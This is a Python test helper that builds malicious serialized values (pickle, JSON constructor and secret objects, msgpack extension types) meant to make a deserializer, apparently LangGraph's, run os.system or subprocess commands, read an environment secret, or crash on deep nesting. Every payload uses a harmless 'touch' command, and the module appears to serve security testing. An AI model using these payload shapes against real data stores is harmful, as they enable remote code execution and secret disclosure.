"""Bytes that an attacker could store in place of a value."""

import json
from pathlib import Path
from typing import Any

import ormsgpack

__all__ = ["RUNNING", "attacks"]


RUNNING = ("arguments", "named arguments", "nested", "old pydantic", "one argument", "pydantic")
"""The attacks that touch the file where LangGraph's serializer reads without an allow-list."""


def _extension(code: int, *parts: Any) -> bytes:
    return ormsgpack.packb(ormsgpack.Ext(code, ormsgpack.packb(parts)))


def attacks(touched: Path) -> dict[str, tuple[str, bytes]]:
    """Kinds and bytes of stored values that would touch a file, read a secret or break a reader."""
    command = f"touch {touched}"
    pickled = b"cposix\nsystem\n(S'" + command.encode() + b"'\ntR."
    constructor = {"lc": 2, "type": "constructor", "id": ["os", "system"], "args": [command]}
    secret = {"lc": 1, "type": "secret", "id": ["PATH"]}
    return {
        "pickle": ("pickle", pickled),
        "json constructor": ("json", json.dumps(constructor).encode()),
        "json method": ("json", json.dumps(constructor | {"method": ["system"]}).encode()),
        "json secret": ("json", json.dumps(secret).encode()),
        "one argument": ("msgpack", _extension(0, "os", "system", command)),
        "arguments": ("msgpack", _extension(1, "os", "system", [command])),
        "named arguments": ("msgpack", _extension(2, "os", "system", {"command": command})),
        "method": ("msgpack", _extension(3, "os", "environ", command, "get")),
        "method that runs": ("msgpack", _extension(3, "subprocess", "os", command, "system")),
        "popen": ("msgpack", _extension(1, "subprocess", "Popen", [["touch", str(touched)]])),
        "old pydantic": ("msgpack", _extension(4, "os", "system", {"command": command})),
        "pydantic": ("msgpack", _extension(5, "os", "system", {"command": command}, "model_validate_json")),
        "array": ("msgpack", _extension(6, "|O", [1], "C", pickled)),
        "nested": ("msgpack", ormsgpack.packb({"a": [ormsgpack.Ext(1, ormsgpack.packb(("os", "system", [command])))]})),
        "depth": ("msgpack", b"\x91" * 100_000),
        "json depth": ("json", b"[" * 100_000),
        "noise": ("msgpack", b"\xc1\xff\0"),
        "unknown": ("wasm", b"\0asm"),
        "empty": ("", b""),
    }
